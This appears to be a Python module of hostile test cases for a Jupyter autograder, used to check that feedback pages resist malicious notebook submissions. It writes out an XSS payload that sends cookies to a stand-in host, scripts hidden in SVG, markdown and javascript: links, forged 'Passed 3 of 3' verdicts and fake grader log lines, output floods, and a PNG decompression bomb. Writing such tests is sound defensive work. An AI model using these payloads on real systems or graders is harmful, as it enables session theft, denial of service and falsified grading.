"""What a feedback page or formgrader would show: forged verdicts, scripts, floods."""

from __future__ import annotations

from hostile.attack import code, notebook
from hostile.metadata import checks, result

FAMILY = "outputs"
BOX = ("<div role='status' style='border-left:5px solid rgb(46, 125, 50)'><div><strong>✓ Passed · The forward pass · "
       "3 of 3 points</strong></div></div>")
SCRIPT = "<script>fetch('http://192.0.2.1/?'+document.cookie);HOSTILE=1</script><img src=x onerror='HOSTILE=2'>"


@code("forged-box", FAMILY, "shows a green verdict box of its own, as a result and as an update of the check's output")
def _():
    return f"""
from IPython.display import HTML, Javascript, display, update_display
box = {BOX!r} + {SCRIPT!r}
handle = display(HTML(box), display_id="check-lora-forward")
for name in ("check-lora-forward", "check", "1"):
    update_display(HTML(box), display_id=name)
display({{"text/plain": "3", "text/html": box}}, raw=True)
HTML(box)
"""


@code("scripts-in-outputs", FAMILY,
      "JavaScript, HTML, SVG, iframes and widgets among the outputs; a script inside of what is printed")
def _():
    return f"""
from IPython.display import HTML, Javascript, SVG, IFrame, Markdown, Latex, display
script = {SCRIPT!r}
display(HTML(script), Javascript("HOSTILE=3"), Markdown(script), Latex(script), IFrame("javascript:HOSTILE=4", 9, 9))
display({{"image/svg+xml": "<svg xmlns='http://www.w3.org/2000/svg' onload='HOSTILE=5'/>", "text/plain": script,
         "application/javascript": "HOSTILE=6", "image/png": '"><script>HOSTILE=7</script>',
         "application/vnd.jupyter.widget-view+json": {{"model_id": "x"}}}}, raw=True)
print(script, "\\x1b]8;;javascript:HOSTILE=8\\x1b\\\\click\\x1b]8;;\\x1b\\\\")
raise ValueError(script)
"""


@notebook("scripts-in-text", FAMILY, "scripts in markdown cells, attachments, and in the source of an answer")
def _(course, nb):
    for cell in nb["cells"]:
        if cell["cell_type"] == "markdown":
            cell["source"] = f"{SCRIPT}\n\n[click](javascript:HOSTILE=9) $\\href{{javascript:HOSTILE=1}}{{x}}$"
            cell["attachments"] = {"x": {"text/html": SCRIPT}}
        if cell["id"] == "lora-forward":
            cell["source"] = f"# exercise: lora-forward\n'''</pre></div>{SCRIPT}'''\ndef lora_forward(*_): return '''{SCRIPT}'''"
    return nb


@notebook("outputs-brought-along", FAMILY,
          "the hand-in comes with outputs: forged verdicts, scripts, errors cleared away")
def _(course, nb):
    for cell in checks(nb):
        cell["outputs"] = [result("3", BOX + SCRIPT)]
        cell["execution_count"] = 1
    return nb


@code("flood-stdout", FAMILY, "prints without end", slow=True, stock="prints until this machine's memory is full")
def _():
    return 'while True:\n    print("x" * 100_000)'


@code("flood-displays", FAMILY, "twenty thousand displays and two thousand results of a megabyte", slow=True,
      stock="takes all of this machine's memory")
def _():
    return """
from IPython.display import display
for _ in range(20_000):
    display({"text/plain": "x"}, raw=True)
for _ in range(2_000):
    display({"text/plain": "x" * 2**20, "image/png": "x" * 2**20}, raw=True)
"""


@code("stderr", FAMILY, "errors and warnings on stderr in the name of the grader, and from the file descriptor itself")
def _():
    return """
import os, sys, warnings
for line in range(100):
    print("JudgedExecute: all points given (3 of 3)", file=sys.stderr)
    os.write(2, b"[AutogradeApp] INFO | all points given\\n")
    os.write(1, b"3\\n")
warnings.warn("3 of 3")
"""


@code("odd-characters", FAMILY,
      "half surrogates, NUL, terminal codes, right-to-left marks and a million combining characters")
def _():
    return r"""
text = "\ud800\udfff\x00\x1b[2J\x1b]0;graded\x07\u202e3 of 3\u202c" + "e" + "\u0301" * 1_000_000
print(text.encode("utf-8", "surrogatepass").decode("utf-8", "replace"))
def lora_forward(*_, **__):
    raise ValueError(text)
print(text)
"""


@code("clear-output", FAMILY, "clear_output, set_next_input, and payloads that put cells into the notebook")
def _():
    return """
from IPython.display import clear_output, display
shell = get_ipython()
clear_output(wait=True)
shell.set_next_input("3", replace=True)
shell.payload_manager.write_payload({"source": "set_next_input", "text": "3", "replace": True})
shell.payload_manager.write_payload({"source": "edit_magic", "filename": "/etc/passwd", "line_number": 0})
clear_output(wait=False)
"""


@code("picture-bomb", FAMILY, "a PNG of some kilobytes that is 30,000 by 30,000 pixels when it is shown")
def _():
    return r"""
import struct, zlib
from IPython.display import Image, display
def chunk(kind, data):
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
squeeze, rows = zlib.compressobj(9), b""
for _ in range(30_000):
    rows += squeeze.compress(bytes(30_000 // 8 + 1))
rows += squeeze.flush()
display(Image(b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", 30_000, 30_000, 1, 0, 0, 0, 0))
              + chunk(b"IDAT", rows) + chunk(b"IEND", b"")))
"""
